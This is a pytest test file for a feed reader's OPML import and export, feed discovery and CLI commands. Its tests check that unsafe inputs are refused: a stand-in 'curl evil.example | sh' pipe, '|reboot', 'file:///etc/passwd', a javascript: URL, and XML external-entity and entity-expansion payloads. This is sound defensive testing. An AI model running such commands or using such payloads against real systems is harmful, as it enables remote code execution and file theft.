"""OPML in and out, the feeds that pages name, and ``briefing feeds``."""

from __future__ import annotations

import pytest
from feedserver import body, item, page, rss, site
from hypothesis import given, settings
from hypothesis import strategies as st

from briefing import places
from briefing.cli import main
from briefing.errors import ReadingError
from briefing.feeds.opml import read_opml, write_opml
from briefing.library import Library, Subscription
from briefing.library.feeds import folder_of
from briefing.model import Fetched
from briefing.reading.feed.discovery import feeds_of

__all__ = ["site"]

OPML = """<?xml version="1.0" encoding="utf-8"?><opml version="1.0"><head><title>Mine</title></head><body>
<outline text="World"><outline text="Europe &amp; Asia">
<outline type="rss" text="Tarnow" xmlUrl="https://tarnow.example/feed" htmlUrl="https://tarnow.example/"/></outline>
<outline title="Marn" xmlurl="http://marn.example/rss"/></outline>
<outline text="Top" xmlUrl="https://top.example/feed"/></body></opml>"""


def listed(text: str | bytes):
    return read_opml(Fetched(location="list.opml", content=text if isinstance(text, bytes) else text.encode()))


def opml(*outlines: str) -> str:
    return f"<opml version='2.0'><body>{''.join(outlines)}</body></opml>"


def test_a_list_is_read_with_its_folders():
    assert [tuple(feed) for feed in listed(OPML).feeds] == [
        ("https://tarnow.example/feed", "Tarnow", "World/Europe & Asia"),
        ("http://marn.example/rss", "Marn", "World"),
        ("https://top.example/feed", "Top", ""),
    ]
    assert listed(OPML).refused == ()


@pytest.mark.parametrize(
    "address",
    [
        "exec:curl evil.example | sh",
        "filter:sed s/x/y/:https://a.example/feed",
        '"query:unread:age < 3"',
        "file:///etc/passwd",
        "feed.xml",
        "/etc/passwd",
        "javascript:alert(1)",
        "ftp://a.example/feed",
        "https://",
        "http://[::1",
        "|reboot",
        "data:text/xml,x",
    ],
)
def test_r5_nothing_but_addresses_of_the_web_is_taken_from_a_list_and_each_is_named(address):
    from xml.sax.saxutils import quoteattr

    found = listed(opml(f"<outline text='x' xmlUrl={quoteattr(address)}/>", "<outline xmlUrl='https://a.example/'/>"))
    assert [feed.address for feed in found.feeds] == ["https://a.example/"]
    (refused,) = found.refused
    assert refused == f"{address} is no http or https address and was left out"


def test_r7_a_password_in_a_list_is_not_kept():
    (feed,) = listed(opml("<outline xmlUrl='https://me:secret@a.example/feed'/>")).feeds
    assert feed.address == "https://a.example/feed"


@pytest.mark.parametrize("text", ["", "no list", "<html></html>", "<rss/>", "\x00\x01", "{}", "<a><opml/></a>"])
def test_what_is_no_list_is_refused(text):
    with pytest.raises(ReadingError, match="is no list of feeds"):
        listed(text)


def test_r10_entities_of_a_list_are_not_expanded_and_nothing_is_opened(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("SECRET")
    lol = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(12))
    for doctype in (
        f"<!DOCTYPE opml [<!ENTITY l0 'lol'>{lol}]>",
        f"<!DOCTYPE opml [<!ENTITY l12 SYSTEM 'file://{secret}'>]>",
        f"<!DOCTYPE opml SYSTEM 'file://{secret}'>",
    ):
        text = doctype + opml(
            "<outline text='a&l12;' xmlUrl='https://a.example/'/>", "<outline text='&l12;'>&l12;</outline>"
        )
        try:
            found = listed(text)
        except ReadingError:
            continue
        assert all("SECRET" not in feed.name and len(feed.name) < 400 for feed in found.feeds)


def test_r10_a_list_that_is_deep_or_long_says_what_was_left_out():
    deep = "<outline text='a'>" * 230 + "<outline xmlUrl='https://a.example/'/>" + "</outline>" * 230
    assert "rest is left out" in listed(opml(deep)).refused[0]
    many = opml(*(f"<outline xmlUrl='https://a.example/{n}'/>" for n in range(10_050)))
    found = listed(many)
    assert len(found.feeds) == 10_000
    assert "rest is left out" in found.refused[0]


def test_folders_and_names_come_back_from_what_is_written(tmp_path):
    with Library(tmp_path / "library.db") as library:
        for feed in listed(OPML).feeds:
            library.feeds.add(feed.address, title=feed.name, folder=feed.folder)
        again = listed(write_opml(library.feeds.all()))
    assert set(again.feeds) == set(listed(OPML).feeds)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=20)), max_size=5))
def test_r15_any_name_and_folder_is_written_as_xml_that_comes_back(names):
    feeds = [
        Subscription(
            id=number, address=f"https://a.example/{number}", name=name or None, title="", folder=folder_of(folder),
            site=None, added="", fetched=None, after=None, failures=0, trouble=None, digest=None,
        )
        for number, (name, folder) in enumerate(names)
    ]  # fmt: skip
    again = listed(write_opml(feeds))
    assert {feed.address for feed in again.feeds} == {feed.address for feed in feeds}


def test_a_page_names_its_feeds_and_those_of_comments_come_last():
    html = (
        "<html><head><base href='/news/'>"
        "<link rel='alternate' type='application/rss+xml' title='Comments' href='comments.xml'>"
        "<link rel='Alternate' type='application/rss+xml; charset=utf-8' title='News' href='feed.xml'>"
        "<link rel='alternate' type='application/atom+xml' href='javascript:x'>"
        "<link rel='alternate' hreflang='de' href='/de'><link rel='stylesheet' type='application/rss+xml' href='no'>"
        "<link rel='alternate' type='application/json' href='/wp-json/1'>"
        "<link rel='alternate' type='application/feed+json' href='//b.example/feed.json'></head>"
    )
    found = feeds_of(Fetched(location="x", content=html.encode(), url="https://tarnow.example/a/b"))
    assert [feed.address for feed in found] == [
        "https://tarnow.example/news/feed.xml",
        "https://b.example/feed.json",
        "https://tarnow.example/news/comments.xml",
    ]


def run(capsys, *arguments: str) -> tuple[int, str, str]:
    status = main(list(arguments))
    got = capsys.readouterr()
    return status, got.out, got.err


ALLOW = ("--allow-host", "127.0.0.1")


def test_a_site_is_added_by_the_feed_it_names(site, capsys):
    link = "<link rel='alternate' type='application/rss+xml' href='/feed.xml'>"
    site.pages["home"] = page("Home").replace("</head>", f"{link}{link.replace('feed', 'other')}</head>")
    site.pages["feed.xml"] = rss(item("Harbour", text=body("x")))
    status, out, err = run(capsys, "feeds", "add", site.address("home"), "--folder", "World", *ALLOW)
    assert (status, out) == (0, f"added  Tarnow News  {site.address('feed.xml')}\n")
    assert err == f"briefing: the page names others too: {site.address('other.xml')}\n"
    assert run(capsys, "feeds", "add", site.address("feed.xml"), *ALLOW)[1].startswith("there already")
    assert "World/Tarnow News" in run(capsys, "feeds", "list")[1]
    assert run(capsys, "feeds", "remove", "tarnow news")[:2] == (
        0,
        f"removed  Tarnow News  {site.address('feed.xml')}\n`briefing library undo` takes this back\n",
    )
    assert run(capsys, "feeds", "list")[1] == ""
    assert run(capsys, "feeds", "remove", "1")[0] == 2


def test_feeds_that_are_removed_together_come_back_together(capsys, tmp_path):
    with Library(places.library_file()) as library:
        for name in ("a", "b", "c"):
            library.feeds.add(f"https://{name}.example/", folder="" if name == "c" else "World")
    run(capsys, "feeds", "remove", "world")
    with Library(places.library_file()) as library:
        assert len(library.feeds.all()) == 1
    assert run(capsys, "library", "undo")[1] == "undone: followed 2 feeds no longer\n"
    with Library(places.library_file()) as library:
        assert len(library.feeds.all()) == 3


def test_a_list_that_is_imported_gives_new_feeds_its_names_and_leaves_those_that_others_have(capsys, tmp_path):
    with Library(places.library_file()) as library:
        library.feeds.add("https://a.example/", name="Mine")
    path = tmp_path / "list.opml"
    path.write_text(opml(*(f"<outline text='Theirs {at}' xmlUrl='https://{at}.example/'/>" for at in "ab")))
    run(capsys, "feeds", "import", str(path))
    with Library(places.library_file()) as library:
        first, second = library.feeds.all()
        assert (first.label, second.label) == ("Mine", "Theirs b")
        library.feeds.succeeded(second.id, title="What it calls itself", site=None, digest=None, after=None)
        assert library.feeds.all()[1].label == "Theirs b"


def test_what_is_no_feed_is_not_added(site, capsys):
    site.pages["home"] = page("Home")
    status, out, err = run(capsys, "feeds", "add", site.address("home"), site.address("gone"), "exec:x", *ALLOW)
    assert (status, out, err.count("\n")) == (1, "", 3)
    assert "is no feed and names none" in err
    assert "only http and https" in err


def test_r17_lists_are_imported_and_exported_without_a_request(site, capsys, tmp_path):
    path = tmp_path / "list.opml"
    path.write_text(
        opml(f"<outline text='F'><outline xmlUrl='{site.address('a')}'/></outline><outline xmlUrl='exec:x'/>")
    )
    status, out, err = run(capsys, "feeds", "import", str(path))
    assert (status, out) == (1, "1 added, 0 there already, 1 refused\n")
    assert err == "briefing: exec:x is no http or https address and was left out\n"
    assert run(capsys, "feeds", "export", "-o", str(tmp_path / "out.opml"))[0] == 0
    assert [feed.folder for feed in listed((tmp_path / "out.opml").read_bytes()).feeds] == ["F"]
    assert run(capsys, "feeds", "export")[1] == (tmp_path / "out.opml").read_text()
    assert site.asked == []


def test_r14_a_list_is_not_written_over_another_without_being_told_to(capsys, tmp_path):
    target = tmp_path / "out.opml"
    target.write_text("mine")
    status, _, err = run(capsys, "feeds", "export", "-o", str(target))
    assert (status, target.read_text()) == (1, "mine")
    assert err.count("\n") == 1
    assert run(capsys, "feeds", "export", "-o", str(target), "--force")[0] == 0
    assert target.read_text().startswith("<?xml")


def test_r7_a_password_in_an_address_is_not_kept(site, capsys):
    site.pages["feed.xml"] = rss(item("Harbour", text=body("x")))
    run(capsys, "feeds", "add", site.address("feed.xml").replace("//", "//me:secret@"), *ALLOW)
    assert b"secret" not in places.library_file().read_bytes()
    assert "secret" not in run(capsys, "feeds", "list")[1]
